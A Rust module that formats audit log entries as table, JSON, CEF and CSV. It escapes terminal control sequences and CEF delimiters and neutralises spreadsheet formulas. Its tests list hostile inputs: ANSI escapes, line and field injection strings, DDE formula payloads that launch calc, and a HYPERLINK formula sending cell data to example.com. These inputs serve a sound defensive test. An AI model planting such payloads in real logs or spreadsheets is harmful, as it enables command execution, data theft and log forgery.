//! What an entry looks like on a line, whatever somebody else has made of its values: no value ends its field or its line, moves a
//! cursor, or is taken for a formula.

use std::fmt::Write as _;

use clap::ValueEnum;

use crate::cli::admin::AuditEntryView;
use crate::domain::audit::{is_printable, printable};

/// How entries are shown.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(in crate::cli) enum AuditFormat {
    /// A line for people.
    Table,
    /// An object on a line.
    Json,
    /// `ArcSight`'s Common Event Format, version 0.
    Cef,
    /// For spreadsheets.
    Csv,
}

/// What stands before the first entry.
pub(super) fn head(format: AuditFormat) -> &'static str {
    match format {
        AuditFormat::Json | AuditFormat::Cef => "",
        AuditFormat::Table => TABLE_HEAD,
        AuditFormat::Csv => CSV_HEAD,
    }
}

pub(in crate::cli) fn line(entry: &AuditEntryView, format: AuditFormat) -> String {
    match format {
        AuditFormat::Table => table_line(entry),
        AuditFormat::Json => json_line(entry),
        AuditFormat::Cef => cef_line(entry),
        AuditFormat::Csv => csv_line(entry),
    }
}

fn json_line(entry: &AuditEntryView) -> String {
    json_text(entry)
}

/// The JSON of `value` on a line, with everything escaped that a terminal obeys.
pub(in crate::cli) fn json_text(value: &impl serde::Serialize) -> String {
    // It was made of such a text, or can be.
    let text = serde_json::to_string(value).unwrap_or_default();
    let mut line = String::with_capacity(text.len() + 1);
    for letter in text.chars() {
        // JSON lets some stand as they are that a terminal obeys; they are in strings, or there would be none.
        if is_printable(letter) {
            line.push(letter);
        } else {
            for unit in letter.encode_utf16(&mut [0; 2]) {
                let _ = write!(line, "\\u{unit:04x}");
            }
        }
    }
    line.push('\n');
    line
}

fn table_line(entry: &AuditEntryView) -> String {
    let mut line = format!(
        "{}  {:8}  {:18}  {}",
        entry.time, entry.outcome, entry.act, entry.author
    );
    let whom = [
        &entry.identity,
        &entry.destination,
        &entry.factor_sid,
        &entry.challenge_sid,
        &entry.verification_sid,
    ];
    for part in whom.into_iter().flatten().chain(&entry.changes) {
        let _ = write!(line, "  {part}");
    }
    if let Some(reason) = &entry.reason {
        let _ = write!(line, "  ({reason})");
    }
    if entry.unwritten > 0 {
        let _ = write!(line, "  [{} more before it were only counted]", entry.unwritten);
    }
    for (name, value) in [
        ("from", &entry.address),
        ("in", &entry.dialect),
        ("request", &entry.request_id),
    ] {
        if let Some(value) = value {
            let _ = write!(line, "  {name} {value}");
        }
    }
    printable(&line) + "\n"
}

/// `CEF:0|vendor|product|version|class|name|severity|extension`.
fn cef_line(entry: &AuditEntryView) -> String {
    let severity = match entry.outcome.as_str() {
        "refused" | "denied" => 5,
        _ => 2,
    };
    let mut line = format!(
        "CEF:0|Countersign|countersign|{}|{}|{}|{severity}|rt={} externalId={} outcome={} suser={}",
        cef_header(env!("CARGO_PKG_VERSION")),
        cef_header(&entry.act),
        cef_header(&entry.act.replace('_', " ")),
        entry.millis,
        cef_value(&entry.sid),
        cef_value(&entry.outcome),
        cef_value(&entry.author),
    );
    let changes = (!entry.changes.is_empty()).then(|| entry.changes.join("; "));
    for (key, value) in [
        ("src", &entry.address),
        ("reason", &entry.reason),
        ("duser", &entry.identity),
        ("app", &entry.dialect),
        ("requestClientApplication", &entry.agent),
        ("msg", &changes),
    ] {
        if let Some(value) = value {
            let _ = write!(line, " {key}={}", cef_value(value));
        }
    }
    let account = Some(entry.account_sid.clone());
    let labelled = [
        ("account", &account),
        ("service", &entry.service_sid),
        ("factor", &entry.factor_sid),
        (
            "challenge",
            entry
                .challenge_sid
                .as_ref()
                .map_or(&entry.verification_sid, |_| &entry.challenge_sid),
        ),
        ("request", &entry.request_id),
        ("destination", &entry.destination),
    ];
    for (number, (label, value)) in (1..).zip(labelled) {
        if let Some(value) = value {
            let _ = write!(line, " cs{number}Label={label} cs{number}={}", cef_value(value));
        }
    }
    printable(&line) + "\n"
}

fn cef_header(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('|', "\\|")
        .replace(['\r', '\n'], " ")
}

fn cef_value(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('=', "\\=")
        .replace('\r', "\\r")
        .replace('\n', "\\n")
}

/// As in RFC 4180, with every cell in quotes.
fn csv_line(entry: &AuditEntryView) -> String {
    let text = |text: &Option<String>| text.clone().unwrap_or_default();
    let cells = [
        entry.time.clone(),
        entry.sid.clone(),
        entry.account_sid.clone(),
        entry.author.clone(),
        entry.act.clone(),
        entry.outcome.clone(),
        text(&entry.reason),
        text(&entry.service_sid),
        text(&entry.identity),
        text(&entry.factor_sid),
        text(&entry.challenge_sid),
        text(&entry.verification_sid),
        text(&entry.destination),
        entry.changes.join("; "),
        entry.unwritten.to_string(),
        text(&entry.request_id),
        text(&entry.dialect),
        text(&entry.address),
        text(&entry.agent),
    ];
    cells.map(|cell| csv_cell(&cell)).join(",") + "\r\n"
}

fn csv_cell(text: &str) -> String {
    let text = printable(text);
    // A spreadsheet computes what begins so, and what is computed may fetch and run things.
    let is_formula = text
        .trim_start()
        .starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    let mark = if is_formula { "'" } else { "" };
    format!("\"{mark}{}\"", text.replace('"', "\"\""))
}

const TABLE_HEAD: &str = "TIME                  OUTCOME   ACT                 BY\n";

const CSV_HEAD: &str = "time,sid,account_sid,author,act,outcome,reason,service_sid,identity,factor_sid,challenge_sid,\
    verification_sid,destination,changes,unwritten,request_id,dialect,address,agent\r\n";

#[cfg(test)]
mod tests {
    use super::*;

    fn entry() -> AuditEntryView {
        AuditEntryView {
            sid: "AE1".to_owned(),
            time: "2026-11-30T08:00:00Z".to_owned(),
            millis: 1_796_025_600_000,
            account_sid: "AC1".to_owned(),
            author: "key SK1".to_owned(),
            act: "check_code".to_owned(),
            outcome: "refused".to_owned(),
            reason: Some("wrong code".to_owned()),
            identity: Some("user-0001".to_owned()),
            agent: Some("curl/8".to_owned()),
            ..AuditEntryView::default()
        }
    }

    /// In each place where somebody else's words may stand.
    fn with(words: &str) -> Vec<AuditEntryView> {
        let words = || Some(words.to_owned());
        let places: [fn(&mut AuditEntryView, Option<String>); 6] = [
            |entry, words| entry.agent = words,
            |entry, words| entry.reason = words,
            |entry, words| entry.identity = words,
            |entry, words| entry.destination = words,
            |entry, words| entry.address = words,
            |entry, words| entry.changes = words.into_iter().collect(),
        ];
        let put = |place: fn(&mut AuditEntryView, Option<String>)| {
            let mut entry = entry();
            place(&mut entry, words());
            entry
        };
        places.into_iter().map(put).collect()
    }

    /// The cells of a line, read as a spreadsheet does.
    fn cells(line: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let (mut quoted, mut letters) = (false, line.strip_suffix("\r\n").unwrap().chars().peekable());
        while let Some(letter) = letters.next() {
            let cell = cells.last_mut().unwrap();
            match letter {
                '"' if quoted && letters.peek() == Some(&'"') => {
                    cell.push('"');
                    letters.next();
                }
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(String::new()),
                letter => cell.push(letter),
            }
        }
        assert!(!quoted);
        cells
    }

    const HOSTILE: [&str; 13] = [
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
        "\u{9b}2J\u{90}q\u{85}next",
        "first\r\nsecond\nthird\u{b}\u{c}\u{2028}\u{2029}",
        "right\u{202e}tfel\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}",
        "=HYPERLINK(\"http://example.com/\"&A1;\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\",=1+1,\"",
        "\",\"outcome\":\"approved\",\"act\":\"\\",
        "a|b=c\\ src=1.2.3.4 act=done",
        "\u{0}\u{7f}\u{feff}\u{ff1d}1",
    ];

    /// SECURITY.md, row 35: new lines, ANSI, formulas, JSON; and a megabyte of them.
    #[test]
    fn nothing_that_somebody_says_makes_another_field_or_line_or_moves_a_cursor() {
        let long = format!("={}\u{1b}[2J", "x,\"\n".repeat(250_000));
        for words in HOSTILE.into_iter().chain([long.as_str()]) {
            for entry in with(words) {
                for format in AuditFormat::value_variants() {
                    let line = line(&entry, *format);
                    let without = line.trim_end_matches(['\r', '\n']);
                    assert!(
                        line.ends_with('\n') && without.chars().all(is_printable),
                        "{format:?}: {line:?}"
                    );
                }
                let json = line(&entry, AuditFormat::Json);
                assert_eq!(
                    serde_json::from_str::<AuditEntryView>(&json).unwrap(),
                    entry,
                    "nothing is lost"
                );
                let cells = cells(&line(&entry, AuditFormat::Csv));
                assert_eq!(cells.len(), CSV_HEAD.split(',').count(), "{cells:?}");
                for cell in cells {
                    let first = cell.trim_start().chars().next();
                    assert!(
                        !first.is_some_and(|first| "=+-@\u{ff1d}".contains(first)),
                        "{cell:?}"
                    );
                }
                let cef = line(&entry, AuditFormat::Cef);
                let (_, extension) = cef.split_once("|5|").unwrap();
                let unescaped = extension.replace("\\\\", "").replace("\\=", "");
                let keys = unescaped.split('=').count();
                let usual = match entry {
                    ref entry if !entry.changes.is_empty() || entry.address.is_some() => 11,
                    ref entry if entry.destination.is_some() => 12,
                    _ => 10,
                };
                assert_eq!(keys, usual, "{cef}");
            }
        }
    }

    #[test]
    fn each_format_says_what_there_is() {
        let cef = line(&entry(), AuditFormat::Cef);
        assert!(cef.starts_with("CEF:0|Countersign|countersign|"), "{cef}");
        assert!(cef.contains(
            "|check_code|check code|5|rt=1796025600000 externalId=AE1 outcome=refused suser=key SK1"
        ));
        assert!(cef.contains(
            " reason=wrong code duser=user-0001 requestClientApplication=curl/8 cs1Label=account cs1=AC1"
        ));
        let odd = AuditEntryView {
            act: "a|b\n".to_owned(),
            ..entry()
        };
        assert!(line(&odd, AuditFormat::Cef).contains("|a\\|b |a\\|b |5|"));
        let csv = cells(&line(&entry(), AuditFormat::Csv));
        let named: Vec<_> = CSV_HEAD.trim_end().split(',').zip(csv).collect();
        assert!(named.contains(&("reason", "wrong code".to_owned())), "{named:?}");
        assert!(named.contains(&("identity", "user-0001".to_owned())), "{named:?}");
        assert!(named.contains(&("agent", "curl/8".to_owned())), "{named:?}");
        assert_eq!(csv_cell("+32470123456"), "\"'+32470123456\"");
    }
}
